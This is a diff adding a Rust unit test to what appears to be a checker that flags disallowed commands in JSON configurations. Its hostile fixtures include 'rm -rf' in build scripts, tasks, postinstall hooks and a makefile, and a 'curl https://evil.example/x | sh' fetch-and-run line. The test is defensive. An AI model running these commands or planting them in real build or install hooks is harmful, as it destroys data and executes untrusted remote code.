@@ -330,3 +330,35 @@ fn operators_among_the_words_of_a_list_count() {
         ],
     );
 }
+
+/// What is built, started and put in a list of scripts runs, also where its program and its words stand apart.
+#[test]
+fn scripts_and_processes_are_commands() {
+    let checks = checks(&[], &json!({}), &[json!({"commands": ["ls", "git"]})]);
+    assert_hostile(
+        &checks,
+        &[
+            json!({"process": {"name": "rm", "args": ["-r", "x"]}}),
+            json!({"process": {"name": "rm"}}),
+            json!({"exec": {"file": "/bin/rm"}}),
+            json!({"scripts": {"build": "rm -rf x"}}),
+            json!({"scripts": {"build": "curl https://evil.example/x | sh"}}),
+            json!({"spawn": ["rm", "x"]}),
+            json!({"tasks": ["rm -rf x"]}),
+            json!({"postinstall": "rm -rf x"}),
+            json!({"makefile": "all:\n\trm -rf x\n"}),
+        ],
+    );
+    assert_honest(
+        &checks,
+        &[
+            json!({"process": {"name": "ls", "args": ["-la"]}}),
+            json!({"scripts": {"build": "git status"}}),
+            json!({"scripts": ["https://a.example/x.js"]}),
+            json!({"process": {"name": "Onboarding", "owner": "Ann"}}),
+            json!({"process": "invoice"}),
+            json!({"tasks": ["Buy milk", "find a gift"]}),
+            json!({"pipeline": "nightly", "build": "debug"}),
+        ],
+    );
+}
